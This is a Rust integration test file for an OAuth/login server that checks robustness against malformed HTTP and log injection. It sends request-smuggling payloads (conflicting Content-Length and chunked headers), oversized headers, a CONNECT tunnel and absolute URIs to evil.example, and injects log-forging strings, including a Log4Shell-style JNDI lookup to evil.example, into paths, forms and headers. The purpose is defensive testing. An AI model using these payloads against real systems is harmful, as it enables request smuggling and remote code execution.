//! DO-5 and IJ-3: bytes as no program of good will sends them, to the real listener; and a log of which
//! every line is one event, whatever stood in a request.

use std::{
    io::{Read, Write},
    net::TcpStream,
    time::Duration,
};

use doorward::paths;
use serde_json::Value;
use tokio::task::spawn_blocking;

use crate::support::{binary::Binary, database::Database, house::House, rp::Rp};

/// What a test waits for an answer that does not come.
const PATIENCE: Duration = Duration::from_secs(20);

/// Sends these bytes and reads what comes back until the server hangs up, or says no more.
async fn sent(house: &House, bytes: Vec<u8>) -> String {
    let port = house.url("/").port().expect("a port");
    let read = spawn_blocking(move || {
        let mut stream = TcpStream::connect(("127.0.0.1", port)).expect("a connection");
        stream.set_read_timeout(Some(PATIENCE)).expect("a limit");
        // Whoever has heard enough answers, and hangs up while we still speak.
        stream.write_all(&bytes).ok();
        let mut answer = Vec::new();
        let mut part = [0; 8192];
        while let Ok(length @ 1..) = stream.read(&mut part) {
            answer.extend_from_slice(&part[..length]);
        }
        String::from_utf8_lossy(&answer).into_owned()
    });
    read.await.expect("an answer")
}

fn status(answer: &str) -> Option<u16> {
    answer.strip_prefix("HTTP/1.")?.get(2..5)?.parse().ok()
}

fn request(line: &str, headers: &str, body: &str) -> Vec<u8> {
    format!("{line}\r\nHost: localhost\r\nConnection: close\r\n{headers}\r\n{body}").into_bytes()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn do_5_bytes_of_ill_will_get_an_answer_of_their_own_or_none() {
    let binary = Binary::start(Database::sqlite().await).await;
    let house = &binary.house;
    let form = "Content-Type: application/x-www-form-urlencoded\r\n";
    let token = format!("POST {} HTTP/1.1", paths::TOKEN);
    let headers: String = (0..10_000).map(|at| format!("X-{at}: 1\r\n")).collect();
    let chunk = format!("{:x}\r\n{}\r\n", 60_000, "a".repeat(60_000));
    let cases = [
        (
            "ten thousand headers",
            request("GET / HTTP/1.1", &headers, ""),
        ),
        (
            "a header of a megabyte",
            request(
                "GET / HTTP/1.1",
                &format!("X: {}\r\n", "a".repeat(1 << 20)),
                "",
            ),
        ),
        (
            "a cookie of 200 KB",
            request(
                "GET /account HTTP/1.1",
                &format!("Cookie: a={}\r\n", "b".repeat(200_000)),
                "",
            ),
        ),
        (
            "an address of a megabyte",
            request(&format!("GET /{} HTTP/1.1", "a".repeat(1 << 20)), "", ""),
        ),
        (
            "a body without an end",
            request(
                &token,
                &format!("{form}Transfer-Encoding: chunked\r\n"),
                &chunk.repeat(40),
            ),
        ),
        (
            "a chunk that lies",
            request(
                &token,
                &format!("{form}Transfer-Encoding: chunked\r\n"),
                "fffffffffffffffff\r\n",
            ),
        ),
        (
            "two lengths",
            request(
                &token,
                &format!("{form}Content-Length: 3\r\nContent-Length: 4\r\n"),
                "a=b&",
            ),
        ),
        (
            "a length and chunks",
            request(
                &token,
                &format!("{form}Content-Length: 3\r\nTransfer-Encoding: chunked\r\n"),
                "0\r\n\r\n",
            ),
        ),
        (
            "a length below nothing",
            request(&token, &format!("{form}Content-Length: -1\r\n"), ""),
        ),
        (
            "a length beyond numbers",
            request(
                &token,
                &format!("{form}Content-Length: 99999999999999999999999\r\n"),
                "",
            ),
        ),
        (
            "another coding",
            request(
                &token,
                &format!("{form}Transfer-Encoding: xchunked\r\n"),
                "",
            ),
        ),
        (
            "a compressed body",
            request(
                &token,
                &format!("{form}Content-Encoding: gzip\r\nContent-Length: 2\r\n"),
                "\u{1f}b",
            ),
        ),
        (
            "parts",
            request(
                &token,
                "Content-Type: multipart/form-data; boundary=x\r\nContent-Length: 5\r\n",
                "--x--",
            ),
        ),
        (
            "a folded header",
            request("GET / HTTP/1.1", "X: a\r\n b\r\n", ""),
        ),
        (
            "a header without a name",
            request("GET / HTTP/1.1", ": a\r\n", ""),
        ),
        (
            "a space before the colon",
            request("GET / HTTP/1.1", "Host : evil.example\r\n", ""),
        ),
        (
            "a method that is none",
            request("G\u{1}T / HTTP/1.1", "", ""),
        ),
        (
            "no HTTP at all",
            b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03".repeat(20),
        ),
        ("another version", b"GET / HTTP/9.9\r\n\r\n".to_vec()),
        (
            "HTTP/2 without an agreement",
            b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec(),
        ),
        (
            "an address of somebody else",
            request("GET http://evil.example/login HTTP/1.1", "", ""),
        ),
        (
            "a tunnel",
            request("CONNECT evil.example:443 HTTP/1.1", "", ""),
        ),
    ];
    for (what, bytes) in cases {
        let answer = sent(house, bytes).await;
        let status = status(&answer);
        // What HTTP itself has for a version or a coding that is not spoken here is no failure.
        let fits = |status: u16| status < 500 || [501, 505].contains(&status);
        assert!(status.is_none_or(fits), "{what}: {answer:.300}");
        assert!(!answer.contains("evil.example"), "{what}: {answer:.300}");
        // Exactly one request was seen in it, so exactly one answer comes back.
        assert!(
            answer.matches("HTTP/1.1 ").count() <= 1,
            "{what}: {answer:.600}"
        );
        house.get(paths::LIVEZ).await.is(200);
    }
    let expects = request(
        &token,
        &format!("{form}Content-Length: 70000\r\nExpect: 100-continue\r\n"),
        "",
    );
    let answer = sent(house, expects).await;
    assert!(!answer.contains("HTTP/1.1 200"), "{answer:.300}");
    let (log, _) = binary.stop();
    assert!(!log.contains("panicked"), "somebody panicked");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn ij_3_every_line_of_the_log_is_one_event() {
    let binary = Binary::start(Database::sqlite().await).await;
    let house = &binary.house;
    let rp = Rp::confidential(house).await;
    let lines = [
        "x\r\n{\"level\":\"INFO\",\"fields\":{\"message\":\"canary\"}}",
        "\u{1b}[2J\u{1b}[31mcanary\u{1b}[0m",
        "${jndi:ldap://evil.example/canary}",
        "canary\u{0}canary",
        "canary\u{85}\u{2028}\u{2029}canary",
        "%n%s%x canary \\n \\u000a",
        "\u{202e}yranac",
    ];
    for words in lines {
        let escaped: String = url::form_urlencoded::byte_serialize(words.as_bytes()).collect();
        for path in [
            "/",
            "/nowhere/",
            paths::LOGIN,
            paths::AUTHORIZE,
            paths::DEV_MAIL,
            "/api/auth/",
        ] {
            house
                .get(&format!("{path}{}", escaped.replace('+', "%20")))
                .await;
            house
                .get(&format!(
                    "{path}?x={escaped}&client_id={escaped}&{escaped}=1"
                ))
                .await;
        }
        let pairs = [
            ("grant_type", words),
            ("code", words),
            ("client_id", words),
            ("scope", words),
            ("token", words),
        ];
        for path in [
            paths::TOKEN,
            paths::INTROSPECT,
            paths::REVOKE,
            paths::PAR,
            paths::DEVICE_AUTHORIZATION,
        ] {
            house.post(path).form(&pairs).await;
            rp.post(path, &pairs).await;
            house.post(path).basic(words, words).form(&pairs).await;
        }
        let mut browser = house.browser();
        browser
            .get(&rp.authorize_url(&[("state", Some(words)), ("login_hint", Some(words))]))
            .await;
        browser.get(paths::LOGIN).await;
        browser
            .submit("#login-form", &[("email", words), ("password", words)])
            .await;
        // What a header may hold of it.
        let header: String = words.chars().filter(|c| !c.is_control()).collect();
        for name in [
            "User-Agent",
            "Referer",
            "X-Request-Id",
            "X-Forwarded-For",
            "Authorization",
            "Origin",
        ] {
            house.get(paths::USERINFO).header(name, &header).await;
        }
    }
    let (log, _) = binary.stop();
    let events: Vec<&str> = log.lines().filter(|line| line.starts_with('{')).collect();
    assert!(events.len() > 100, "{}", events.len());
    // What was said to whoever started it comes first; the last line may have been cut off.
    let (_, logged) = log.split_once('\n').expect("a log");
    let (logged, _) = logged.rsplit_once('\n').expect("a whole line");
    for line in logged.split('\n') {
        let event: Value =
            serde_json::from_str(line).unwrap_or_else(|error| panic!("{error}: {line:.300}"));
        assert!(
            event["level"].is_string() && event["timestamp"].is_string(),
            "{line:.300}"
        );
        assert_ne!(event["fields"]["message"], "canary");
        assert!(line.chars().all(|c| c >= ' '), "{line:.300}");
    }
}
